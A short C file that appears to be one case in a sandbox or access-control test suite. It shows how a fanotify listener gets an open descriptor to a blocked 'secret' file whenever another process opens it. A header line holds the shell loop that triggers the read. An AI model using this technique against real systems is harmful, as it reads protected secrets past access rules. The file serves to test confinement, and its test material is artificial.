/* SPDX-License-Identifier: Apache-2.0 */
/*
 * An open descriptor of the blocked file as a present from the kernel, when somebody outside reads it.
 *
 * A fanotify group on the file's mount gets a descriptor of each file that anybody opens there: the listener never opens
 * anything itself.
 *
 * ---
 * tries: [own]
 * source: fanotify(7), https://man7.org/linux/man-pages/man7/fanotify.7.html
 * rule: secret
 * wins: secret
 * outside: touch "$O/ready"; while :; do cat "$V/secret" >/dev/null; sleep 0.05; done
 */
#include "attack.h"
#include <poll.h>
#include <sys/fanotify.h>

int main(void)
{
	int group = fanotify_init(FAN_CLASS_NOTIF | FAN_NONBLOCK, O_RDONLY);
	struct pollfd waiting = { .fd = group, .events = POLLIN };
	char room[4096] __attribute__((aligned(8)));
	struct fanotify_event_metadata *event = (void *)room;

	must(group, "fanotify_init");
	must(fanotify_mark(group, FAN_MARK_ADD, FAN_OPEN, AT_FDCWD, V("secret")), "fanotify_mark");
	if (poll(&waiting, 1, 20000) != 1)
		return failed("nobody came");
	must(read(group, room, sizeof(room)), "read of an event");
	return show(event->fd);
}
